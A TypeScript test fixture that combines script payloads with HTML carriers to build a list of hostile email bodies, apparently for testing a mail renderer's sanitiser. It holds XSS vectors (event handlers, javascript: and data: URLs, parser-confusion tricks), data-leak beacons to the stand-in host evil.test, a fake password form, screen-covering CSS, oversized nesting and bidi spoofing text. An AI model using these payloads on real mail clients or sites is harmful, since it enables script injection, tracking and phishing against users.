// Bodies of mails that want to run, to tell somebody, or to break out of their frame: as many as there are ways to combine.

const SCRIPTS = [
  'alert(1)',
  'top.ran=1',
  'parent.ran=1',
  'fetch("https://evil.test/leak")',
  'new Image().src="https://evil.test/leak"',
  'document.location="https://evil.test/"',
]
const CARRIERS: readonly ((script: string) => string)[] = [
  (script) => `<script>${script}</script>`,
  (script) => `<img src=x onerror='${script}'>`,
  (script) => `<svg onload='${script}'></svg>`,
  (script) => `<svg><script>${script}</script></svg>`,
  (script) => `<math><mtext><script>${script}</script></mtext></math>`,
  (script) => `<iframe srcdoc="<script>${script.replaceAll('"', '&quot;')}</script>"></iframe>`,
  (script) => `<a href='javascript:${script}' autofocus onfocus='${script}'>press</a>`,
  (script) => `<input autofocus onfocus='${script}'>`,
  (script) => `<details open ontoggle='${script}'><summary>x</summary></details>`,
  (script) => `<video><source onerror='${script}'></video>`,
  (script) => `<body onload='${script}'>`,
  (script) =>
    `<object data="data:text/html,<script>${script.replaceAll('"', '&quot;')}</script>"></object>`,
  (script) => `<form><button formaction='javascript:${script}'>go</button></form>`,
  (script) =>
    `<noscript><p title="</noscript><img src=x onerror='${script.replaceAll('"', '')}'>"></noscript>`,
  (script) =>
    `<style><img src="</style><img src=x onerror='${script.replaceAll('"', '')}'>"></style>`,
  (script) => `<!--><img src=x onerror='${script}'>-->`,
  (script) => `<template><img src=x onerror='${script}'></template><p>${script}</p>`,
  (script) => `<marquee onstart='${script}'>x</marquee>`,
  (script) =>
    `<table background="javascript:${script.replaceAll('"', '')}"><tr><td>x</td></tr></table>`,
  (script) => `<a href="data:text/html,<script>${script.replaceAll('"', '')}</script>">x</a>`,
]

const PLACES = [
  'position:fixed;inset:0;z-index:99999;background:red;width:100vw;height:100vh',
  'position:absolute;top:-9999px;left:-9999px;width:9999px;height:9999px',
  'margin:-5000px;padding:9999px',
  'transform:scale(100)',
  'float:left;width:9999px;height:9999px',
  'font-size:9999px',
  'line-height:9999;letter-spacing:9999px',
  'display:grid;grid-template-columns:repeat(9999,99px)',
]
const COVERS = PLACES.flatMap((style) => [
  `<div style="${style}">cover</div>`,
  `<p style="${style}">cover</p>`,
  `<style>* { ${style} }</style><p>cover</p>`,
])

const ADDRESS = 'https://evil.test/leak'
const LEAKS = [
  `<img src="${ADDRESS}.png" width="1" height="1">`,
  `<img srcset="${ADDRESS}.png 1x">`,
  `<picture><source srcset="${ADDRESS}.png"><img src="${ADDRESS}.jpg"></picture>`,
  `<p style="background:url(${ADDRESS}.png)">x</p>`,
  `<p style="background-image:image-set(url(${ADDRESS}.png) 1x)">x</p>`,
  `<p style="list-style:url(${ADDRESS}.png)">x</p>`,
  `<p style="color:red;content:url(${ADDRESS})">x</p>`,
  `<style>@import "${ADDRESS}.css";</style>`,
  `<style>@font-face{font-family:x;src:url(${ADDRESS}.woff)}p{font-family:x}</style><p>x</p>`,
  `<link rel="stylesheet" href="${ADDRESS}.css">`,
  `<link rel="prefetch" href="${ADDRESS}"><link rel="preconnect" href="https://evil.test">`,
  `<link rel="dns-prefetch" href="//evil.test">`,
  `<meta http-equiv="refresh" content="0;url=${ADDRESS}">`,
  `<base href="https://evil.test/"><img src="leak.png">`,
  `<iframe src="${ADDRESS}"></iframe>`,
  `<frameset><frame src="${ADDRESS}"></frameset>`,
  `<embed src="${ADDRESS}"><object data="${ADDRESS}"></object>`,
  `<video src="${ADDRESS}.mp4" poster="${ADDRESS}.png" autoplay></video>`,
  `<audio src="${ADDRESS}.mp3" autoplay></audio>`,
  `<track src="${ADDRESS}.vtt">`,
  `<input type="image" src="${ADDRESS}.png">`,
  `<svg><image href="${ADDRESS}.png"/><use href="${ADDRESS}.svg#x"/></svg>`,
  `<table background="${ADDRESS}.png"><tr><td background="${ADDRESS}.png">x</td></tr></table>`,
  `<body background="${ADDRESS}.png">x</body>`,
  `<form action="${ADDRESS}"><input name="password"><input type="submit"></form>`,
  `<a href="${ADDRESS}" ping="${ADDRESS}">x</a>`,
  `<script src="${ADDRESS}.js"></script>`,
  `<script type="module">import "${ADDRESS}.js"</script>`,
  `<img src="//evil.test/leak.png"><img src="https:evil.test/leak.png">`,
  `<img src="\u0001https://evil.test/leak.png"><img src=" https://evil.test/leak.png">`,
  `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='${ADDRESS}'/></svg>">`,
]

const HUGE = [
  `<table>${'<tr><td>x</td></tr>'.repeat(1500)}</table>`,
  `<table><tr>${'<td>x</td>'.repeat(2500)}</tr></table>`,
  `<table><tr><td colspan="99999" rowspan="99999" width="99999">x</td></tr></table>`,
  '<div>'.repeat(4000),
  '<blockquote>'.repeat(2000),
  '<table><tr><td>'.repeat(500),
  `<p>${'x'.repeat(50_000)}</p>`,
  `<pre>${'x'.repeat(50_000)}</pre>`,
  `<img src="data:image/png;base64,iVBORw0KGgo=" width="99999" height="99999">`,
  '<ul><li>'.repeat(2000),
]

const TURNED = [
  '\u202E\u202Dmoc.live\u202C',
  '<bdo dir="rtl">moc.live</bdo>',
  `<p dir="rtl">${'\u202E'.repeat(500)}evil</p>`,
  '\u2066\u2067\u2068 nested \u202E without an end',
  '<p dir="rtl" align="left" style="text-align:right">turned</p>',
  `${'\u200F'.repeat(2000)}x`,
  `Z${'\u0335\u0336\u0337\u0338'.repeat(1000)}`,
  '<span style="unicode-bidi:bidi-override;direction:rtl">live</span>',
  '&#8238;&#8237;evil&#8236;',
  '<p>\uFEFF\u2028\u2029\u0085x</p>',
  '<plaintext>never ends <script>top.ran=1</script>',
  '<xmp><script>top.ran=1</script></xmp>',
  '<title></title><script>top.ran=1</script>',
  '</body></html><script>top.ran=1</script>',
  '<![CDATA[<script>top.ran=1</script>]]>',
]

export const HOSTILE: readonly string[] = [
  ...CARRIERS.flatMap((carrier) => SCRIPTS.map(carrier)),
  ...COVERS,
  ...LEAKS,
  ...HUGE,
  ...TURNED,
]
